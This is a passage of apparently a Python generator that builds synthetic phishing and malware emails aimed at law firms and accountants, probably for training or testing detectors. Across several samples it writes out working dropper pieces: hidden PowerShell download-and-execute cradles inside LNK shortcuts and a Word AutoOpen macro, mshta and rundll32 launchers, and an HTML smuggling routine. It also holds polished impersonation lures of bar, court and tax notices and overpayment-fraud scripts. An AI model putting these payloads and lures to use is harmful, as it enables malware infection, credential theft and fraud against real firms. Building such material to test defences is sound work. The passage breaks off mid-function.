             "Sans confirmation d'ici le 30 avril 2025, votre accès au service « Représenter un client » sera suspendu.\n\n"
             f"Confirmer mon accès : {link}\n")
    return phpmailer_mail(seed, rcv="gmail", rcpt=rcpt, from_=addr("Agence du revenu du Canada", f"avis@{dom}"), to=rcpt,
                          subject="Avis important : votre accès à « Représenter un client » sera suspendu",
                          sent=sent, html_body=web_page(inner), plain=plain, auth=auth, sign=[(dom, "s2025")])


@sample("phish-oregon-bar-dues-suspension", "phishing",
        "State bar impersonation to a solo attorney: 'administrative suspension for unpaid 2026 membership fees' from a "
        "look-alike of the bar's domain with a late-fee payment link to a card-harvesting page.")
def a19() -> bytes:
    seed = "a19"
    sent = when("2026-02-10 09:02:44 -0800")
    rcpt = "dana@whitcomblaw.com"
    dom = "osbar-org.com"
    ip = "104.168.135.77"
    auth = Auth(f"membership@{dom}", ip, f"mail.{dom}", f"104-168-135-77-host.colocrossing.com", "pass",
                [(dom, "default", "pass")], "pass", dom)
    link = f"https://member.{dom}/dues/pay?bar={tok(seed + 'bar', 6, DIGITS)}&amp;s={tok(seed + 's', 16, HEX)}"
    inner = (row('<span style="font-size:22px;color:#003865;font-weight:bold;">OREGON STATE BAR</span>', "24px 28px 4px") +
             row('<p><b>Notice of Pending Administrative Suspension</b></p><p>Dear Member,</p>'
                 '<p>Our records indicate that your 2026 membership fees and Professional Liability Fund assessment remain '
                 'unpaid. Under ORS 9.200, members who fail to pay fees after notice are subject to administrative '
                 'suspension and may not practice law in Oregon until reinstated.</p>'
                 '<p>To avoid suspension and a reinstatement fee, submit payment including the late fee of $100.00 by '
                 '<b>February 13, 2026</b>.</p>', "12px 28px 4px") +
             row(button(link, "Pay Fees Now", "#003865"), "8px 28px") +
             row('<p style="font-size:12px;color:#666;">Oregon State Bar Member Services &middot; 16037 SW Upper Boones Ferry Rd, '
                 'Tigard, OR 97224</p>', "20px 28px"))
    return phpmailer_mail(seed, rcv="gmail", rcpt=rcpt, from_=f"Oregon State Bar Member Services <membership@{dom}>",
                          to=rcpt, subject="Notice of Pending Administrative Suspension - 2026 Membership Fees",
                          sent=sent, html_body=web_page(inner), auth=auth, sign=[(dom, "default")])


@sample("phish-sra-investigation-google-sites", "phishing",
        "Solicitors Regulation Authority 'notice of investigation' to a partner at a conveyancing firm from a look-alike "
        "domain on Zoho Mail, pointing to a 'case portal' built on Google Sites that leads to a credential kit.")
def a20() -> bytes:
    seed = "a20"
    sent = when("2025-09-16 15:07:31 +0100")
    rcpt = "p.ashby@ashbyfenwick.co.uk"
    dom = "sra-regulation.org.uk"
    ip = f"136.143.{int(tok(seed, 2, DIGITS)) % 20 + 160}.{int(tok(seed + 'z', 2, DIGITS)) + 40}"
    helo = f"sender4-op-o{int(tok(seed + 'o', 2, DIGITS))}.zoho.eu"
    auth = Auth(f"investigations@{dom}", ip, helo, helo, "pass", [(dom, "zmail", "pass")], None, dom)
    link = f"https://sites.google.com/view/sra-caseportal-{tok(seed + 'gs', 5, DIGITS)}/home"
    html_body = ('<div style="font-family:Verdana,Arial,Helvetica,sans-serif;font-size:10pt;"><div>Dear Mr Ashby,</div><br>'
                 '<div>Re: Investigation reference SRA/INV/2025/48817 &ndash; Ashby Fenwick Solicitors</div><br>'
                 '<div>The Solicitors Regulation Authority has received information regarding the handling of client money on a '
                 'residential conveyancing matter completed by your firm. In accordance with Rule 2 of the SRA Regulatory and '
                 'Disciplinary Procedure Rules we are writing to notify you that an investigation has been opened.</div><br>'
                 '<div>The notice, the information received and the explanation we require from you are available on our secure '
                 f'case portal:</div><br><div><a href="{link}" target="_blank">View notice SRA/INV/2025/48817</a></div><br>'
                 '<div>You are required to respond within 14 days of the date of this email.</div><br>'
                 '<div>Yours sincerely</div><br><div>Investigation Officer<br>Solicitors Regulation Authority<br>'
                 'The Cube, 199 Wharfside Street, Birmingham B1 1RN</div></div>\n')
    plain = to_plain(html_body.replace("<br>", "\n"))
    body = alt(plain, f'<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;">{html_body}</div>\n',
               f"----=_Part_{tok(seed + 'p', 6, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    headers = [f"Date: {rfc(sent)}", f"From: Solicitors Regulation Authority <investigations@{dom}>",
               f"To: {rcpt}", f"Message-Id: <{tok(seed + 'z1', 11, HEX)}.{tok(seed + 'z2', 16, HEX)}.{tok(seed + 'z3', 19, DIGITS)}@{dom}>",
               "Subject: Notice of Investigation - SRA/INV/2025/48817", "Importance: High",
               "User-Agent: Zoho Mail", "X-Mailer: Zoho Mail"]
    hop = (f"Received: from mail.zoho.eu by mx.zoho.eu\n\twith SMTP id {tok(seed + 'zi', 16, DIGITS)}{int(sent.timestamp())}; "
           f"{rfc(sent)}")
    return assemble(seed, rcv="m365uk", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=[hop],
                    sign=[(dom, "zmail")])


@sample("phish-lso-annual-report-firebase", "phishing",
        "Law Society of Ontario 'annual report overdue, licence suspension' notice to a Toronto firm from a look-alike "
        "domain without DKIM, linking to a Firebase-hosted (web.app) copy of the LSO portal login.")
def a21() -> bytes:
    seed = "a21"
    sent = when("2025-04-02 08:19:50 -0400")
    rcpt = "c.okafor@okaforlindqvist.ca"
    dom = "lso-portal-ca.org"
    ip = "179.43.150.82"
    auth = Auth(f"noreply@{dom}", ip, f"{dom}", None, "pass", [], None, dom)
    link = f"https://lso-annual-report-2024.web.app/portal/login?lic={tok(seed + 'lic', 5, DIGITS)}{tok(seed + 'l', 1, 'PL')}"
    inner = (row('<span style="font-size:20px;color:#1d3e6e;"><b>Law Society</b> of Ontario</span>', "24px 28px 4px") +
             row('<p>Dear Licensee,</p><p>Our records show that your <b>2024 Lawyer Annual Report</b>, due March 31, 2025, '
                 'has not been filed. Failure to file the Annual Report is a summary suspension matter under section 47 of '
                 'the <i>Law Society Act</i>.</p><p>You must log in to the Licensee Portal and complete your filing within '
                 '5 business days to avoid a late filing fee and the suspension of your licence.</p>', "12px 28px 4px") +
             row(button(link, "File Annual Report", "#1d3e6e"), "8px 28px") +
             row('<p style="font-size:12px;color:#666;">Law Society of Ontario, Osgoode Hall, 130 Queen Street West, '
                 'Toronto, ON M5H 2N6</p>', "20px 28px"))
    return phpmailer_mail(seed, rcv=CALAW_MX, rcpt=rcpt, from_=f"Law Society of Ontario <noreply@{dom}>", to=rcpt,
                          subject="Final Notice: 2024 Annual Report Not Filed - Summary Suspension",
                          sent=sent, html_body=web_page(inner), auth=auth, xmailer="PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)")


@sample("phish-pacer-nef-lookalike", "phishing",
        "Fake CM/ECF 'Notice of Electronic Filing' for a new complaint naming the firm, copied from the real court text "
        "but sent from a look-alike of the court's domain, with the document link pointing at the look-alike host.")
def a22() -> bytes:
    seed = "a22"
    sent = when("2025-05-08 16:41:02 -0400")
    rcpt = "tharlow@harlowbeckett.com"
    dom = "mad-uscourts.org"
    ip = "5.181.190.12"
    auth = Auth(f"ECFnotice@{dom}", ip, f"ecf.{dom}", None, "pass", [], None, dom)
    doc = f"https://ecf.{dom}/doc1/0951{tok(seed + 'doc', 8, DIGITS)}?caseid=28{tok(seed + 'cid', 4, DIGITS)}&amp;de_seq_num=4&amp;magic_num={tok(seed + 'mn', 8, DIGITS)}"
    html_body = ("<p><strong>This is an automatic e-mail message generated by the CM/ECF system. Please DO NOT RESPOND to this "
                 "e-mail because the mail box is unattended.</strong><br><strong>***NOTE TO PUBLIC ACCESS USERS*** Judicial "
                 "Conference of the United States policy permits attorneys of record and parties in a case (including pro se "
                 "litigants) to receive one free electronic copy of all documents filed electronically, if receipt is required "
                 "by law or directed by the filer. PACER access fees apply to all other users. To avoid later charges, download "
                 "a copy of each document during this first viewing.</strong></p>\n"
                 "<p align=\"center\"><strong>United States District Court</strong></p>\n"
                 "<p align=\"center\"><strong>District of Massachusetts</strong></p>\n"
                 "<p><strong>Notice of Electronic Filing</strong></p>\n"
                 "<div>The following transaction was entered by Castellano, Rebecca on 5/8/2025 at 4:39 PM EDT and filed on "
                 "5/8/2025</div>\n<table border=\"0\" cellspacing=\"0\"><tr><td><strong>Case Name:</strong></td><td>Brennan v. "
                 "Harlow &amp; Beckett LLP et al</td></tr><tr><td><strong>Case Number:</strong></td><td>1:25-cv-11208</td></tr>"
                 "<tr><td><strong>Filer:</strong></td><td>Sean Brennan</td></tr>"
                 f"<tr><td><strong>Document Number:</strong></td><td><a href=\"{doc}\">1</a></td></tr></table>\n"
                 "<p><strong>Docket Text:</strong><br><strong>COMPLAINT for Legal Malpractice and Breach of Fiduciary Duty "
                 "against Harlow &amp; Beckett LLP, Thomas Harlow (Filing fee: $ 405, receipt number AMADC-10918833), filed by "
                 "Sean Brennan. (Attachments: # (1) Civil Cover Sheet, # (2) Exhibit A)(Castellano, Rebecca)</strong></p>\n"
                 "<p>1:25-cv-11208 Notice has been electronically mailed to:</p>\n<p>Rebecca Castellano &nbsp; "
                 "rcastellano@castellanolaw.com</p>\n<p>Thomas Harlow &nbsp; tharlow@harlowbeckett.com</p>\n")
    return phpmailer_mail(seed, rcv="m365", rcpt=rcpt, from_=f"ECFnotice@{dom}", to=f"CourtMail@{dom}",
                          subject="Activity in Case 1:25-cv-11208 Brennan v. Harlow & Beckett LLP et al Complaint",
                          sent=sent, html_body=html_body, auth=auth, xmailer=None)


@sample("phish-efile-service-zip-lnk", "malware",
        "Fake e-filing service 'documents served on you' notice to a solo attorney with a zip holding a .pdf.lnk shortcut "
        "that runs a hidden PowerShell download cradle (shortcut dropper).")
def a23() -> bytes:
    seed = "a23"
    sent = when("2024-10-29 13:12:08 -0700")
    rcpt = "dana@whitcomblaw.com"
    dom = "fileandserve-notice.com"
    ip = "194.26.29.140"
    auth = Auth(f"notifications@{dom}", ip, f"mx1.{dom}", None, "softfail", [], None, dom)
    lnk = F.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                         "-w hidden -nop -ep bypass -c \"$u='https://fs-docs-cdn.top/s/9921844.ps1';"
                         "iex((New-Object Net.WebClient).DownloadString($u))\"")
    z = F.zip_archive([("Served_Documents_9921844/Motion_to_Compel_Discovery_Served.pdf.lnk", lnk),
                       ("Served_Documents_9921844/Proof_of_Service.pdf.lnk", lnk)])
    att = attachment("application/zip", "Served_Documents_Transaction_9921844.zip", z)
    html_body = ('<html><body style="font-family:Arial;font-size:13px;">\n<p><b>File &amp; ServeXpress</b> &ndash; Service Notification</p>\n'
                 '<p>You have been served with documents in the following matter:</p>\n'
                 '<table cellpadding="4" border="1" style="border-collapse:collapse;font-size:13px;">'
                 '<tr><td>Transaction ID</td><td>9921844</td></tr><tr><td>Case</td><td>Hollis v. Pacific Rim Builders LLC, '
                 '24CV31877</td></tr><tr><td>Court</td><td>Multnomah County Circuit Court</td></tr>'
                 '<tr><td>Documents</td><td>Motion to Compel Discovery; Proof of Service</td></tr>'
                 '<tr><td>Served</td><td>10/29/2024 1:10 PM PT</td></tr></table>\n'
                 '<p>The served documents are attached as a compressed file. Please retain for your records.</p>\n'
                 '<p>This is an automated notification. Do not reply to this email.</p>\n</body></html>\n')
    plain = ("File & ServeXpress - Service Notification\n\nYou have been served with documents in the following matter:\n"
             "Transaction ID 9921844\nCase: Hollis v. Pacific Rim Builders LLC, 24CV31877\n\nThe served documents are attached "
             "as a compressed file.\n")
    return phpmailer_mail(seed, rcv="gmail", rcpt=rcpt, from_=f'"File & ServeXpress" <notifications@{dom}>', to=rcpt,
        subject="Service Notification: Transaction 9921844 - Hollis v. Pacific Rim Builders LLC",
        sent=sent, html_body=html_body, plain=plain, auth=auth, attachments=[att])


@sample("phish-intake-debt-collection-japan", "phishing",
        "New-client intake scam to a Toronto law firm from a Gmail account posing as a Japanese manufacturer seeking "
        "collection of a large debt from an Ontario customer (prelude to a counterfeit-cheque overpayment); no link.")
def a24() -> bytes:
    seed = "a24"
    sent = when("2024-08-13 03:22:51 +0900")
    rcpt = "info@okaforlindqvist.ca"
    paras = [
        "Dear Counsel,", "",
        "I am contacting your firm to request legal representation regarding a commercial debt owed to our company by a "
        "customer located in Mississauga, Ontario.", "",
        "Our company, Hoshino Precision Industries Co., Ltd., supplied CNC machine components to Northfield Fabrication Inc. "
        "The outstanding balance of CAD $486,500.00 has remained unpaid for over 7 months despite several reminders. The "
        "debtor has recently acknowledged the debt and indicated willingness to settle if contacted by a lawyer in Canada.",
        "",
        "Please let me know if your firm can assist with this matter on a contingency or retainer basis, and advise your "
        "conflict check requirements. I will forward the supply contract, invoices and correspondence upon your reply.", "",
        "Kind regards,", "Hiroshi Tanaka", "Director, Overseas Sales", "Hoshino Precision Industries Co., Ltd.",
        "2-14-8 Nishinakajima, Yodogawa-ku, Osaka 532-0011, Japan",
    ]
    return gmail_mail(seed, rcv=CALAW_MX, rcpt=rcpt, sender=("Hiroshi Tanaka", "hoshino.precision.legal@gmail.com"),
                      to=rcpt, subject="Legal Representation Request - Commercial Debt Collection (Ontario)",
                      sent=sent, paras=paras)


@sample("phish-intake-divorce-settlement", "phishing",
        "Divorce-settlement collection intake scam to a solo attorney from an Outlook.com account ('ex-husband in Oregon "
        "agreed to pay'), the opening of a counterfeit-cheque overpayment fraud; no link.")
def a25() -> bytes:
    seed = "a25"
    sent = when("2025-09-03 21:48:17 +0800")
    rcpt = "dana@whitcomblaw.com"
    paras = [
        "Hello Attorney,", "",
        "My name is Mei Lin Chow. I am seeking your assistance to collect an outstanding divorce settlement from my "
        "ex-husband, Mr. Richard Allen Thompson, who now resides in Beaverton, Oregon.", "",
        "We were divorced in Hong Kong in 2023 and by the terms of the settlement he agreed to pay me US$735,000.00 in "
        "installments. He has only paid US$140,000.00 so far. After a long discussion he has now agreed to pay the balance "
        "but he insists that the payment goes through a lawyer in Oregon for legal documentation.", "",
        "Please let me know your retainer fee and whether your firm can represent me in this matter. I can send you a copy "
        "of the settlement agreement.", "",
        "Thank you,", "Mei Lin Chow",
    ]
    return outlook_mail(seed, rcv="gmail", rcpt=rcpt, sender=("Mei Lin Chow", "meilin.chow1978@outlook.com"),
                        to=rcpt, subject="Divorce Settlement Collection", sent=sent, paras=paras,
                        sign_domain="outlook.com", policy_="none")


# --------------------------------------------------------------------------------------------------------------
# attacks 26-38: overpayment, droppers, invoice platforms, voicemail / fax, callbacks
# --------------------------------------------------------------------------------------------------------------

@sample("phish-intake-certified-cheque-overpayment", "phishing",
        "Second stage of a new-client collection scam from a Proton Mail account: the 'debtor paid' by certified cheque "
        "couriered to the firm, please deposit to IOLTA, keep the fee and wire the balance to Hong Kong today.")
def a26() -> bytes:
    seed = "a26"
    sent = when("2025-03-18 22:06:40 +0000")
    rcpt = "mokonkwo@harlowbeckett.com"
    ip = f"185.70.43.{int(tok(seed, 2, DIGITS)) + 10}"
    helo = f"mail-{int(tok(seed + 'h', 4, DIGITS))}.proton.ch"
    auth = Auth("k.sato.legaldept@proton.me", ip, helo, helo, "pass", [("proton.me", "protonmail3", "pass")], "pass",
                "proton.me", "quarantine")
    plain = (
        "Dear Ms. Okonkwo,\n\n"
        "Good news. Ridgeway Supply LLC has responded to your demand letter and made payment of USD $248,600.00 by "
        "certified cheque, which they sent to your office by FedEx this afternoon (tracking 7781 4420 9316). Please "
        "deposit the cheque into your IOLTA trust account as soon as it arrives.\n\n"
        "As agreed in the engagement letter, kindly deduct your 15% contingency fee and wire the balance of USD "
        "$211,310.00 to our company account below. Our fiscal quarter closes on 31 March so our accounts department "
        "requires the funds before that date.\n\n"
        "Beneficiary: Kanazawa Industrial Trading Ltd\n"
        "Bank: DBS Bank (Hong Kong) Limited\n"
        "SWIFT: DHBKHKHH\n"
        "Account: 7890-4471-2236\n\n"
        "Please confirm receipt of the cheque.\n\n"
        "Best regards,\nKenji Sato\nLegal Department\nKanazawa Industrial Trading Ltd\n\n"
        "Sent with Proton Mail secure email.\n\n"
        "On Friday, March 14th, 2025 at 3:18 PM, Meredith Okonkwo <mokonkwo@harlowbeckett.com> wrote:\n\n"
        "> Mr. Sato,\n>\n> We sent the demand letter to Ridgeway Supply LLC today by certified mail and email. We will let you\n"
        "> know as soon as we hear from them or their counsel.\n>\n> Meredith Okonkwo\n> Paralegal | Harlow & Beckett LLP\n")
    html_body = ('<div style="font-family: Arial, sans-serif; font-size: 14px;">'
                 + "".join(f"<div>{html_escape(l) if l else '<br>'}</div>" for l in plain.split("\n\nSent with Proton")[0].split("\n"))
                 + '</div><div class="protonmail_signature_block"><div>Sent with <a href="https://proton.me/mail/home" '
                   'target="_blank">Proton Mail</a> secure email.</div></div><br><div class="protonmail_quote">On Friday, '
                   'March 14th, 2025 at 3:18 PM, Meredith Okonkwo &lt;mokonkwo@harlowbeckett.com&gt; wrote:<br><blockquote '
                   'class="protonmail_quote" type="cite">Mr. Sato,<br><br>We sent the demand letter to Ridgeway Supply LLC today '
                   'by certified mail and email. We will let you know as soon as we hear from them or their counsel.<br><br>'
                   'Meredith Okonkwo<br>Paralegal | Harlow &amp; Beckett LLP</blockquote></div>\n')
    body = alt(plain, html_body, f"b1_{tok(seed + 'b', 43, URLSAFE.replace('-', '').replace('_', ''))}")
    headers = [f"Date: {rfc(sent)}", f"To: Meredith Okonkwo <{rcpt}>",
               "From: Kenji Sato <k.sato.legaldept@proton.me>",
               "Subject: Re: Engagement - Collection of Outstanding Invoices (Ridgeway Supply LLC)",
               f"Message-ID: <{tok(seed + 'pm', 86, URLSAFE.replace('-', '').replace('_', ''))}=@proton.me>",
               f"In-Reply-To: <{tok(seed + 'irt', 20, UPALNUM)}@MN2PR17MB4410.namprd17.prod.outlook.com>",
               f"References: <{tok(seed + 'irt', 20, UPALNUM)}@MN2PR17MB4410.namprd17.prod.outlook.com>",
               f"Feedback-ID: {tok(seed + 'fb', 40, URLSAFE)}==:Ext:ProtonMail",
               f"X-Pm-Message-ID: {tok(seed + 'xpm', 20, HEX)}"]
    return assemble(seed, rcv="m365", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("proton.me", "protonmail3")])


def smuggle_html(title: str, filename: str, payload: bytes, mime: str, lure: str) -> str:
    blob = base64.b64encode(payload).decode()
    chunks = [blob[i:i + 76] for i in range(0, len(blob), 76)]
    js_chunks = "\n".join(f"'{c}'+" for c in chunks) + "''"
    return ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>" + title + "</title>\n"
            "<style>body{font-family:Segoe UI,Arial;background:#f3f3f3;text-align:center;padding-top:90px}"
            ".c{display:inline-block;background:#fff;padding:30px 50px;border:1px solid #ddd}</style></head>\n"
            "<body><div class=\"c\"><h3>" + lure + "</h3><p>Your download will start automatically. If it does not, "
            "<a id=\"d\" href=\"#\">click here</a>.</p></div>\n<script>\nvar b=\n" + js_chunks + ";\n"
            "function s(){var r=atob(b),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++){a[i]=r.charCodeAt(i)}\n"
            "var f=new Blob([a],{type:'" + mime + "'}),l=document.createElement('a');l.href=URL.createObjectURL(f);\n"
            "l.download='" + filename + "';document.body.appendChild(l);l.click();}\n"
            "document.getElementById('d').onclick=function(e){e.preventDefault();s()};setTimeout(s,900);\n</script>\n"
            "</body></html>\n")


@sample("phish-bar-complaint-html-smuggling", "malware",
        "Board of Bar Overseers 'complaint filed against you' notice from a look-alike domain with an HTML attachment that "
        "smuggles a zip holding a double-extension executable (HTML smuggling dropper).")
def a27() -> bytes:
    seed = "a27"
    sent = when("2025-10-21 10:18:33 -0400")
    rcpt = "tharlow@harlowbeckett.com"
    dom = "massbbo-org.com"
    ip = "141.98.10.77"
    auth = Auth(f"bar.counsel@{dom}", ip, f"mail.{dom}", None, "pass", [(dom, "mail", "pass")], None, dom)
    inner_zip = F.zip_archive([("BBO_Complaint_C3-25-00871.pdf.exe", F.pe_stub())])
    page = smuggle_html("Office of Bar Counsel - Secure Document", "BBO_Complaint_C3-25-00871.zip", inner_zip,
                        "application/zip", "Office of Bar Counsel &ndash; Complaint C3-25-00871")
    att = Leaf("text/html", page.encode(), "base64", '; name="BBO_Complaint_C3-25-00871.html"',
               'attachment; filename="BBO_Complaint_C3-25-00871.html"')
    html_body = ('<div style="font-family:Times New Roman,serif;font-size:12pt;">'
                 '<p>COMMONWEALTH OF MASSACHUSETTS<br>BOARD OF BAR OVERSEERS<br>OFFICE OF BAR COUNSEL</p>'
                 '<p>Re: Complaint No. C3-25-00871</p><p>Dear Attorney Harlow:</p>'
                 '<p>This office has received a complaint concerning your conduct in connection with a real estate closing '
                 'in which your firm held escrow funds. A copy of the complaint is enclosed. Pursuant to S.J.C. Rule 4:01, '
                 'Section 8, you are requested to submit a written response within twenty (20) days.</p>'
                 '<p>Please open the enclosed secure document to review the complaint.</p>'
                 '<p>Very truly yours,<br>Assistant Bar Counsel<br>Office of Bar Counsel<br>99 High Street, Boston, MA 02110</p></div>\n')
    plain = to_plain(html_body.replace("</p>", "</p>\n\n"))
    return phpmailer_mail(seed, rcv="m365", rcpt=rcpt, from_=f"Office of Bar Counsel <bar.counsel@{dom}>", to=rcpt,
                          subject="Notice of Complaint - C3-25-00871 - Response Required", sent=sent,
                          html_body=html_body, plain=plain, auth=auth, attachments=[att], sign=[(dom, "mail")])


@sample("phish-subpoena-iso-lnk", "malware",
        "'Subpoena duces tecum' records request to a title company from a look-alike law-firm domain, carrying an ISO disc "
        "image with a .pdf.lnk shortcut that loads a bundled DLL through rundll32.")
def a28() -> bytes:
    seed = "a28"
    sent = when("2025-06-04 11:52:19 -0600")
    rcpt = "info@ridgelinetitle.com"
    lnk = F.lnk_shortcut(r"C:\Windows\System32\rundll32.exe", r"vcruntime140_1.dll,DllRegisterServer")
    iso = F.iso_image([("Subpoena_2025CV30412.pdf.lnk", lnk), ("vcruntime140_1.dll", F.pe_stub())], "SUBPOENA")
    att = attachment("application/octet-stream", "Subpoena_2025CV30412.iso", iso)
    paras = [
        "To the Custodian of Records:", "",
        "Please find attached a Subpoena Duces Tecum issued in <i>Marquez v. Front Range Home Builders, Inc.</i>, "
        "Denver District Court Case No. 2025CV30412, requesting your escrow and closing file for 1129 S Holly St.", "",
        "Production is due within 14 days. The subpoena and the list of requested records are in the attached file "
        "(open on a Windows computer).", "",
        "Thank you for your cooperation.", "",
        "Sandra Whitfield", "Litigation Paralegal", "Kellerman &amp; Rhodes, P.C.", "(303) 555-0119",
    ]
    return outlook_mail(seed, rcv="m365", rcpt=rcpt, sender=("Sandra Whitfield", "swhitfield@kellermanrhodes-law.com"),
                        to=rcpt, subject="Subpoena Duces Tecum - Case No. 2025CV30412 - Records Request", sent=sent,
                        paras=paras, attachments=[att], dmarc=None, sign_domain="kellermanrhodeslaw.onmicrosoft.com")


@sample("phish-taxprep-newclient-docm", "malware",
        "Tax-season 'new client' email to a tax preparer from a Gmail account with a macro-enabled Word document named as "
        "W-2 / 1099 forms whose AutoOpen macro launches PowerShell.")
def a29() -> bytes:
    seed = "a29"
    sent = when("2025-02-26 19:44:05 -0600")
    rcpt = "office@moralestax.com"
    macro = ('Attribute VB_Name = "ThisDocument"\r\n'
             "Sub AutoOpen()\r\n"
             "    Dim c As String\r\n"
             "    c = \"powershell -w hidden -nop -c \" & Chr(34) & \"iwr -useb https://taxdocs-2025.cfd/w2.txt | iex\" & Chr(34)\r\n"
             "    CreateObject(\"WScript.Shell\").Run c, 0, False\r\n"
             "End Sub\r\n")
    doc = F.docx(["W-2 Wage and Tax Statement 2024", "Form 1099-NEC 2024",
                  "This document is protected. To view the content click Enable Editing and then Enable Content."],
                 "W2_1099_2024", "Robert Hayes", macro=macro)
    att = attachment("application/vnd.ms-word.document.macroEnabled.12", "W2_1099NEC_2024_RHayes.docm", doc)
    paras = [
        "Hello,", "",
        "I was referred to your office by a coworker. I need help filing my 2024 taxes this year, I had a W-2 job and also "
        "did some contract work on the side so I have a 1099-NEC too. Last year I used TurboTax but it got complicated.", "",
        "I attached my W-2 and 1099 in one document. Please take a look and let me know what else you need and how much "
        "you charge. I can come by the office next week.", "",
        "Thanks,", "Robert Hayes",
    ]
    return gmail_mail(seed, rcv=TAXPREP_MX, rcpt=rcpt, sender=("Robert Hayes", "roberthayes.rh1979@gmail.com"),
                      to=rcpt, subject="New client - 2024 tax return", sent=sent, paras=paras, attachments=[att])


@sample("phish-taxprep-reply-zip-lnk", "malware",
        "Reply to a CPA firm's genuine 'send us your documents' answer, from an Outlook.com 'prospective client', with a "
        "zip holding a .pdf.lnk that runs mshta against a remote HTA (two-step rapport then dropper).")
def a30() -> bytes:
    seed = "a30"
    sent = when("2025-03-11 20:31:47 -0400")
    rcpt = "info@kesslerwynncpa.com"
    lnk = F.lnk_shortcut(r"C:\Windows\System32\mshta.exe", "https://cdn-taxfiles.online/2024/docs.hta")
    z = F.zip_archive([("Tax_Documents_2024/1040_Prior_Year_2023.pdf.lnk", lnk),
                       ("Tax_Documents_2024/W2_1099-INT_1098_2024.pdf.lnk", lnk)])
    att = attachment("application/x-zip-compressed", "Tax_Documents_2024.zip", z)
    quote = {"from": "Kessler Wynn CPAs <info@kesslerwynncpa.com>", "sent": "Monday, March 10, 2025 9:14 AM",
             "to": "Brian Caldwell <brian.caldwell2291@outlook.com>", "subject": "RE: Individual tax return 2024",
             "paras": ["Hi Brian,", "", "Thank you for contacting Kessler Wynn. We are accepting new individual clients for "
                       "the 2024 season. Please send your prior-year return and your 2024 tax forms and we will follow up "
                       "with an engagement letter and fee quote.", "", "Best regards,", "Client Services | Kessler Wynn CPAs"]}
    paras = ["Hi,", "", "Thank you for the quick response. As requested I have attached my 2023 return and my 2024 documents "
             "(W-2, 1099-INT and mortgage 1098) in a zip file since they were too large to send separately.", "",
             "Please let me know the fee once you have reviewed.", "", "Regards,", "Brian Caldwell"]
    return outlook_mail(seed, rcv="m365", rcpt=rcpt, sender=("Brian Caldwell", "brian.caldwell2291@outlook.com"),
                        to="Kessler Wynn CPAs <info@kesslerwynncpa.com>", subject="RE: Individual tax return 2024",
                        sent=sent, paras=paras, attachments=[att], quote=quote, sign_domain="outlook.com")


@sample("phish-taxprep-dropbox-zip-link", "phishing",
        "Canadian tax-season 'new client' email to a Vancouver accounting firm from Gmail, linking to a Dropbox-hosted zip "
        "'T4 and T5 slips' (malware delivered by link rather than attachment).")
def a31() -> bytes:
    seed = "a31"
    sent = when("2025-03-31 12:08:26 -0700")
    rcpt = "info@pacificledgercpa.ca"
    link = (f"https://www.dropbox.com/scl/fi/{tok(seed + 'db', 21, ALNUM)}/T4_T5_Slips_2024_Evans.zip?"
            f"rlkey={tok(seed + 'rl', 25, ALNUM)}&amp;st={tok(seed + 'st', 8, ALNUM)}&amp;dl=1")
    paras = [
        "Hi there,", "",
        "I'm looking for an accountant to do my 2024 personal return (I moved to Vancouver from Calgary last year and also "
        "have some rental income). My T4, T5 and the rental statements are too big for email so I put them on Dropbox:", "",
        f'<a href="{link}">T4_T5_Slips_2024_Evans.zip</a>', "",
        "Could you let me know your fees and if you can still file before April 30?", "",
        "Thanks so much,", "Melissa Evans", "604-555-0172",
    ]
    return gmail_mail(seed, rcv="m365ca", rcpt=rcpt, sender=("Melissa Evans", "melissaevans.yvr@gmail.com"), to=rcpt,
                      subject="2024 personal tax return - new client", sent=sent, paras=paras)


@sample("phish-uk-selfassessment-zip-scr", "malware",
        "UK 'new client Self Assessment' email to an accounting practice from Gmail with a zip holding P60/P11D 'PDFs' that "
        "are a .pdf.scr executable.")
def a32() -> bytes:
    seed = "a32"
    sent = when("2025-12-02 18:27:44 +0000")
    rcpt = "accounts@thornburyhale.co.uk"
    z = F.zip_archive([("P60_P11D_2024-25_Holloway.pdf.scr", F.pe_stub())])
    att = attachment("application/zip", "P60_P11D_2024-25_Holloway.zip", z)
    paras = [
        "Good evening,", "",
        "I'm hoping you can help me with my Self Assessment for 2024/25 before the January deadline. I left my employer in "
        "October and started consulting as a sole trader so this is the first year I need to file.", "",
        "I've attached my P60 and P11D so you can see my employment income and benefits. Could you let me know your fee for "
        "preparing the return?", "",
        "Kind regards,", "James Holloway",
    ]
    return gmail_mail(seed, rcv="fastmail", rcpt=rcpt, sender=("James Holloway", "james.holloway.consult@gmail.com"),
                      to=rcpt, subject="Self Assessment 2024/25 - new client enquiry", sent=sent, paras=paras,
                      attachments=[att])


def intuit_auth(seed: str) -> Auth:
    ip = f"206.108.40.{int(tok(seed, 2, DIGITS)) + 10}"
    return Auth(f"bounce-{tok(seed + 'bn', 16, HEX)}@notification.intuit.com", ip, "mail.notification.intuit.com",
                f"mta{int(tok(seed + 'm', 2, DIGITS))}.notification.intuit.com", "pass",
                [("notification.intuit.com", "s1", "pass"), ("intuit.com", "s1024", "pass")], "pass",
                "notification.intuit.com", "reject")


def qbo_invoice(seed: str, *, company: str, rcpt_name: str, number: str, due: str, amount: str, memo: str,
                lines: list[tuple[str, str]], phone: str, email: str) -> tuple[str, str, str]:
    link = f"https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-{tok(seed + 'scs', 64, HEX)}?locale=EN_US&amp;cta=viewinvoicenow"
    items = "".join(f'<tr><td style="padding:4px 0;">{d}</td><td align="right">{a}</td></tr>' for d, a in lines)
    inner = (row(f'<p style="font-size:20px;color:#393a3d;"><b>{company}</b></p>', "24px 32px 0") +
             row(f'<p style="font-size:14px;color:#6b6c72;">INVOICE {number} DETAILS</p>'
                 f'<p style="font-size:13px;">Due {due}</p><p style="font-size:32px;font-weight:bold;">{amount}</p>') +
             row(button(link, "Review and pay", "#2ca01c")) +
             row(f'<p>Dear {rcpt_name},</p><p style="white-space:pre-line;">{memo}</p><p>Have a great day,<br>{company}</p>') +
